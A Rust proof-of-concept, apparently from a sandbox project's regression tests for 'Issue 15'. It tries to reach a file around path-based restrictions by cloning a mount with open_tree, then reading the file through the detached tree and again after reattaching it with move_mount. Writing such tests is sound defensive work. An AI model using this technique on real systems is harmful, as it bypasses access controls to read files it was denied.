//! Issue 15 attack: reach a file through a mount made with the new mount API: `open_tree`
//! (OPEN_TREE_CLONE) of a directory, then either read through the detached tree's descriptor
//! or attach it elsewhere with `move_mount` and read it there. Needs its own mount namespace
//! (run it under `unshare -m`, or `unshare -Urm` unprivileged).
//!
//! `attack_open_tree DIR FILE AT`: clones DIR, reads FILE through the detached clone
//! (openat on its descriptor), then mounts the clone at AT (created) and reads AT/FILE.
use std::ffi::CString;

const OPEN_TREE_CLONE: u32 = 1;
const MOVE_MOUNT_F_EMPTY_PATH: u32 = 0x4;

fn first_line(fd: i32, what: &str) {
    let mut buf = [0u8; 256];
    // SAFETY: a descriptor we own and a buffer on the stack.
    let n = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
    let text = String::from_utf8_lossy(&buf[..n.max(0) as usize]).into_owned();
    println!("{what}: {}", text.lines().next().unwrap_or("(nothing)"));
    unsafe { libc::close(fd) };
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    assert!(args.len() == 4, "usage: attack_open_tree DIR FILE AT");
    let dir = CString::new(args[1].clone()).unwrap();
    let file = CString::new(args[2].clone()).unwrap();
    let at = CString::new(args[3].clone()).unwrap();
    // SAFETY: plain syscalls on valid C strings.
    let tree = unsafe {
        libc::syscall(
            libc::SYS_open_tree,
            libc::AT_FDCWD,
            dir.as_ptr(),
            OPEN_TREE_CLONE | libc::O_CLOEXEC as u32,
        )
    } as i32;
    assert!(tree >= 0, "open_tree: {}", std::io::Error::last_os_error());
    let fd = unsafe { libc::openat(tree, file.as_ptr(), libc::O_RDONLY) };
    assert!(
        fd >= 0,
        "openat on the detached tree: {}",
        std::io::Error::last_os_error()
    );
    first_line(fd, "through the detached tree");
    let _ = std::fs::create_dir_all(&args[3]);
    let empty = CString::new("").unwrap();
    let r = unsafe {
        libc::syscall(
            libc::SYS_move_mount,
            tree,
            empty.as_ptr(),
            libc::AT_FDCWD,
            at.as_ptr(),
            MOVE_MOUNT_F_EMPTY_PATH,
        )
    };
    assert_eq!(r, 0, "move_mount: {}", std::io::Error::last_os_error());
    let path = CString::new(format!("{}/{}", args[3], args[2])).unwrap();
    let fd = unsafe { libc::open(path.as_ptr(), libc::O_RDONLY) };
    assert!(
        fd >= 0,
        "open {}: {}",
        path.to_str().unwrap(),
        std::io::Error::last_os_error()
    );
    first_line(fd, "through move_mount");
}
